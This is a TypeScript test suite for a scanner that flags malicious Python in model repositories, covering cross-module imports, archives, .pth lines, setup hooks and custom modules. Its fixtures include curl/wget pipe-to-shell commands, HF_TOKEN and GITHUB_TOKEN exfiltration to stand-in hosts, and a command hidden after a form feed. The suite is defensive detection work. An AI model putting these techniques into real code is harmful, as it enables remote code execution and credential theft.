// A repository's Python read as one program: imports between its own files are followed (relative, absolute from
// the script's folder, packages, sys.path entries and archives put on it), so a download in one module and its
// execution in another, or a secret read in one and sent in another, are one flow. Code outside top-level .py files
// is read as code: archive members captured during the read (wheels, sdists, zips), .pth lines, setup.py /
// setup.cfg / pyproject.toml install hooks, sitecustomize, and sentence-transformers custom modules (as remote code).
import type { Finding, Severity } from '../../../src/core/findings.js';
import { runContentChecks } from '../../../src/checks/content/index.js';
import type { RepoContent } from '../../../src/checks/content/types.js';
import { codeFindings } from '../../../src/checks/content/code.js';
import { loadAnalyzers } from '../../../src/checks/content/analyzers.js';

// The content checks below are called directly (synchronously): load the analyzers they reach first.
await loadAnalyzers();

/** Files by path; `a.whl!/x.py` entries are archive members, captured but not listed (as the review gives them). */
function repo(files: Record<string, string>, skipped: string[] = []): RepoContent {
  return {
    files: Object.keys(files).filter((p) => !p.includes('!/')).map((path) => ({ path, size: (files[path] as string).length, formats: [] })),
    text: (p) => files[p],
    captured: () => Object.keys(files),
    skipped: () => skipped
  };
}

const notable = (fs: readonly Finding[]): Finding[] => fs.filter((f) => f.severity !== 'info' && f.severity !== 'low');
const show = (fs: readonly Finding[]): string => fs.map((f) => `${f.severity} ${f.check} ${f.file}:${f.line ?? ''} ${f.message}`).join('\n');

function expectFinding(fs: readonly Finding[], want: { check: string; severity: Severity; file: string; line?: number }): Finding {
  const f = fs.find((x) => x.check === want.check && x.severity === want.severity && x.file === want.file && (want.line === undefined || x.line === want.line));
  if (!f) throw new Error(`expected ${want.severity} ${want.check} in ${want.file}; got:\n${show(fs)}`);
  return f;
}

describe('imports across the repository\'s own files', () => {
  test('from utils import fetch: the download in one module, chmod and exec in another', () => {
    const fs = runContentChecks(repo({
      'scripts/utils.py': 'import urllib.request\ndef fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\n',
      'scripts/run.py': 'import os, subprocess\nfrom utils import fetch\nfetch("https://x.invalid/rt", "/tmp/rt")\nos.chmod("/tmp/rt", 0o755)\nsubprocess.Popen(["/tmp/rt"])\n'
    }));
    const exec = expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: 'scripts/run.py', line: 5 });
    expect(exec.message).toContain('line 3 of scripts/utils.py');
    expectFinding(fs, { check: 'code.chmod-exec', severity: 'critical', file: 'scripts/run.py', line: 4 });
  });

  test('from .net import send (relative, in a package): a secret read in one module sent from another', () => {
    const fs = runContentChecks(repo({
      'pkg/__init__.py': '',
      'pkg/net.py': 'import requests\ndef send(data):\n    requests.get("https://c.invalid/collect", params={"d": data})\n',
      'pkg/main.py': 'import os\nfrom .net import send\nsend(os.environ.get("HF_TOKEN"))\n'
    }));
    const f = expectFinding(fs, { check: 'code.network-send', severity: 'critical', file: 'pkg/net.py', line: 3 });
    expect(f.message).toContain('$HF_TOKEN (read at line 3 of pkg/main.py)');
  });

  test('import helpers: a module-level secret used by the importer', () => {
    const fs = runContentChecks(repo({
      'helpers.py': 'import os\nTOKEN = os.environ["GITHUB_TOKEN"]\n',
      'go.py': 'import helpers, socket\nsocket.gethostbyname(helpers.TOKEN + ".c.invalid")\n'
    }));
    expectFinding(fs, { check: 'code.network-send', severity: 'critical', file: 'go.py', line: 2 });
  });

  test('import pkg.sub and an attribute chain through packages', () => {
    const fs = runContentChecks(repo({
      'tools/__init__.py': '',
      'tools/shell.py': 'import os\ndef run(c):\n    os.system(c)\n',
      'main.py': 'import tools.shell\ntools.shell.run("curl -s https://x.invalid/a | bash")\n'
    }));
    expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: 'tools/shell.py', line: 3 });
  });

  test('exec(open("configurator.py").read()) runs a repository file: analysed, and only a note', () => {
    const fs = notable(runContentChecks(repo({ 'train.py': 'exec(open("configurator.py").read())\n', 'configurator.py': 'batch_size = 4\n' })));
    expect(fs.map((f) => `${f.severity} ${f.check}`)).toEqual(['medium code.dynamic-exec']);
  });

  test('the README\'s view of a script includes what its imports do', () => {
    const r = repo({
      'scripts/utils.py': 'import os\ndef go():\n    os.system("wget -qO- https://x.invalid/i | sh")\n',
      'scripts/preprocess.py': 'from utils import go\ngo()\n'
    });
    const fs = codeFindings(r, r.files.find((f) => f.path === 'scripts/preprocess.py')!) ?? [];
    expect(fs.some((f) => f.file === 'scripts/utils.py' && f.severity === 'critical')).toBe(true);
  });

  test('legitimate imports between modeling files stay quiet', () => {
    const fs = notable(runContentChecks(repo({
      'modeling_tiny.py': 'import torch\nfrom .configuration_tiny import TinyConfig\nfrom .utils_tiny import rope\nclass TinyModel(torch.nn.Module):\n    def forward(self, x):\n        return rope(x)\n',
      'configuration_tiny.py': 'class TinyConfig:\n    model_type = "tiny"\n',
      'utils_tiny.py': 'import torch\ndef rope(x):\n    return x\n'
    })));
    expect(show(fs)).toBe('');
  });
});

describe('code inside archives', () => {
  const wheel = 'libs/fasttok-0.1-py3-none-any.whl';

  test('a wheel\'s modules are analysed as installed code, its .pth as start-up code', () => {
    const fs = runContentChecks(repo({
      [wheel]: 'PK',
      [`${wheel}!/fasttok/__init__.py`]: 'from .core import boot\nboot()\n',
      [`${wheel}!/fasttok/core.py`]: 'import os\ndef boot():\n    os.system("curl -s https://x.invalid/i | sh")\n',
      [`${wheel}!/fasttok-0.1.pth`]: 'import fasttok\n'
    }));
    expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: `${wheel}!/fasttok/core.py`, line: 3 });
    expectFinding(fs, { check: 'code.pth-exec', severity: 'high', file: `${wheel}!/fasttok-0.1.pth`, line: 1 });
    expectFinding(fs, { check: 'code.packaged', severity: 'medium', file: wheel });
  });

  test('an archive put on sys.path: its modules are imported, and flows join', () => {
    const fs = runContentChecks(repo({
      'vendor.zip': 'PK',
      'vendor.zip!/helper.py': 'import subprocess\ndef run(c):\n    subprocess.run(c, shell=True)\n',
      'main.py': 'import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "vendor.zip"))\nimport helper\nhelper.run("wget -qO- https://x.invalid/a | bash")\n'
    }));
    expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: 'vendor.zip!/helper.py', line: 3 });
  });

  test('an sdist\'s setup.py is install-time code', () => {
    const sdist = 'dist/pkg-1.0.tar.gz';
    const fs = runContentChecks(repo({ [sdist]: 'x', [`${sdist}#gunzip!/pkg-1.0/setup.py`]: 'import subprocess\nfrom setuptools import setup\nsubprocess.run(["git", "status"])\nsetup(name="pkg")\n' }));
    expectFinding(fs, { check: 'code.process-spawn', severity: 'high', file: `${sdist}#gunzip!/pkg-1.0/setup.py`, line: 3 });
  });

  test('a member too large to keep is not examined, and says so', () => {
    const fs = runContentChecks(repo({ [wheel]: 'PK' }, [`${wheel}!/fasttok/big.py`]));
    expectFinding(fs, { check: 'code.not-examined', severity: 'high', file: `${wheel}!/fasttok/big.py` });
  });

  test('a zip of data and TorchScript weights is not read as Python', () => {
    const fs = notable(runContentChecks(repo({ 'model.pt': 'PK', 'model.pt!/archive/code/__torch__/m.py': 'import os\nos.system("id")\n', 'data.zip': 'PK', 'data.zip!/labels.txt': 'a\nb\n' })));
    expect(fs.filter((f) => f.check.startsWith('code.'))).toEqual([]);
  });
});

describe('archives recognised by their bytes, not their name', () => {
  /** Like repo(), with the formats the scanners gave by content for some files. */
  function sniffed(files: Record<string, string>, formats: Record<string, string[]>): RepoContent {
    const r = repo(files);
    return { ...r, files: r.files.map((f) => ({ ...f, formats: formats[f.path] ?? [] })) };
  }

  test('a zip named .bin, put on sys.path: its package is code, and flows join', () => {
    const fs = runContentChecks(sniffed({
      'assets/runtime.bin': 'PK',
      'assets/runtime.bin!/tokturbo/__init__.py': 'import os\nos.system("curl -fsSL https://x.invalid/rt.sh | sh")\n',
      'setup_runtime.py': 'import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "assets", "runtime.bin"))\nimport tokturbo\n'
    }, { 'assets/runtime.bin': ['zip'] }));
    expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: 'assets/runtime.bin!/tokturbo/__init__.py', line: 2 });
  });

  test('a wheel named .dat is a distribution: install-time code and a packaged note', () => {
    const fs = runContentChecks(sniffed({
      'vendor/tokfast.dat': 'PK',
      'vendor/tokfast.dat!/tokfast/__init__.py': 'import os\nos.system("curl -fsSL https://x.invalid/rt.sh | sh")\n',
      'vendor/tokfast.dat!/tokfast-1.0.dist-info/METADATA': 'Name: tokfast\n'
    }, { 'vendor/tokfast.dat': ['zip'] }));
    expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: 'vendor/tokfast.dat!/tokfast/__init__.py', line: 2 });
    expectFinding(fs, { check: 'code.packaged', severity: 'medium', file: 'vendor/tokfast.dat' });
  });

  test('twin: a PyTorch checkpoint .bin (a zip with data.pkl and TorchScript code/) is not read as Python', () => {
    const fs = notable(runContentChecks(sniffed({
      'pytorch_model.bin': 'PK',
      'pytorch_model.bin!/archive/data.pkl': 'x',
      'pytorch_model.bin!/archive/code/__torch__/m.py': 'import os\nos.system("id")\n'
    }, { 'pytorch_model.bin': ['zip'] })));
    expect(fs.filter((f) => f.check.startsWith('code.'))).toEqual([]);
  });
});

describe('.pth, setup and start-up hooks', () => {
  test('a .pth import line is start-up code, analysed as Python', () => {
    const fs = runContentChecks(repo({ 'evil.pth': '/usr/lib/foo\nimport os;os.system("curl https://x.invalid|sh")\n' }));
    expectFinding(fs, { check: 'code.pth-exec', severity: 'high', file: 'evil.pth', line: 2 });
    expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: 'evil.pth', line: 2 });
  });

  test('a statement hidden after a form feed is read (Python < 3.13 executes the whole line)', () => {
    const fs = runContentChecks(repo({ 'x.pth': 'import os\f;os.system("curl https://x.invalid|sh")\n' }));
    expectFinding(fs, { check: 'code.download-exec', severity: 'critical', file: 'x.pth', line: 1 });
  });

  test('a .pth of paths only, and PyTorch weights named .pth, are not code', () => {
    expect(notable(runContentChecks(repo({ 'paths.pth': '/opt/lib\nvendor\n', 'model.pth': 'PK\u0003\u0004\u0000\u0000binary' })))).toEqual([]);
  });

  test('setup.py data_files installing a .pth, and a console script named pip', () => {
    const fs = runContentChecks(repo({ 'setup.py': 'from setuptools import setup\nsetup(name="x", data_files=[("", ["evil.pth"])], entry_points={"console_scripts": ["pip=x:main"]})\n' }));
    expectFinding(fs, { check: 'setup.data-files', severity: 'high', file: 'setup.py', line: 2 });
    expectFinding(fs, { check: 'setup.entry-point', severity: 'high', file: 'setup.py', line: 2 });
  });

  test('an ordinary setup.py is only a note', () => {
    const fs = notable(runContentChecks(repo({ 'setup.py': 'from setuptools import setup, find_packages\nsetup(name="x", packages=find_packages(), data_files=[("share/x", ["vocab.txt"])], entry_points={"console_scripts": ["x-train=x.cli:main"]})\n' })));
    expect(fs.map((f) => `${f.severity} ${f.check}`)).toEqual(['medium setup.py']);
  });

  test('setup.cfg data_files and entry points', () => {
    const fs = runContentChecks(repo({ 'setup.cfg': '[metadata]\nname = x\n\n[options.data_files]\n/etc/profile.d = hook.sh\n\n[options.entry_points]\nconsole_scripts =\n    git = x.cli:main\n' }));
    expectFinding(fs, { check: 'setup.data-files', severity: 'high', file: 'setup.cfg', line: 5 });
    expectFinding(fs, { check: 'setup.entry-point', severity: 'high', file: 'setup.cfg', line: 9 });
  });

  test('an in-tree build backend is analysed as install-time code', () => {
    const fs = runContentChecks(repo({ 'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n', 'backend.py': 'import os\nos.system("id")\n' }));
    expectFinding(fs, { check: 'setup.build-hook', severity: 'medium', file: 'backend.py' });
    expectFinding(fs, { check: 'code.process-spawn', severity: 'high', file: 'backend.py', line: 2 });
  });

  test('sitecustomize.py is a start-up hook', () => {
    expectFinding(runContentChecks(repo({ 'sitecustomize.py': 'import os\nos.environ["X"] = "1"\n' })), { check: 'code.startup-hook', severity: 'high', file: 'sitecustomize.py', line: 1 });
  });
});

describe('sentence-transformers custom modules', () => {
  const modules = (type: string): string => JSON.stringify([{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }, { idx: 1, name: '1', path: '1_Pool', type }], null, 2);

  test('a custom module is remote code: its spawn is high, and modules.json says what loads it', () => {
    const fs = runContentChecks(repo({ 'modules.json': modules('custom_pool.Pool'), 'custom_pool.py': 'import subprocess\nclass Pool:\n    def __init__(self):\n        subprocess.run(["nvidia-smi"])\n' }));
    expectFinding(fs, { check: 'code.process-spawn', severity: 'high', file: 'custom_pool.py', line: 4 });
    const note = expectFinding(fs, { check: 'remote-code.st-module', severity: 'medium', file: 'modules.json' });
    expect(note.message).toContain('custom_pool.py');
  });

  test('the same file without modules.json naming it is a plain script (medium)', () => {
    const fs = notable(runContentChecks(repo({ 'modules.json': modules('sentence_transformers.models.Pooling'), 'custom_pool.py': 'import subprocess\nsubprocess.run(["nvidia-smi"])\n' })));
    expect(fs.map((f) => `${f.severity} ${f.check}`)).toEqual(['medium code.process-spawn']);
  });

  test('a module in another repository, and one from an installed package', () => {
    const cross = runContentChecks(repo({ 'modules.json': modules('other-org/helpers--custom_pool.Pool') }));
    expectFinding(cross, { check: 'remote-code.cross-repo', severity: 'high', file: 'modules.json' });
    const pkg = runContentChecks(repo({ 'modules.json': modules('fast_pool.layers.Pool') }));
    expectFinding(pkg, { check: 'remote-code.st-package', severity: 'medium', file: 'modules.json' });
  });

  test('only sentence_transformers modules: nothing to say', () => {
    expect(notable(runContentChecks(repo({ 'modules.json': modules('sentence_transformers.models.Normalize') })))).toEqual([]);
  });
});
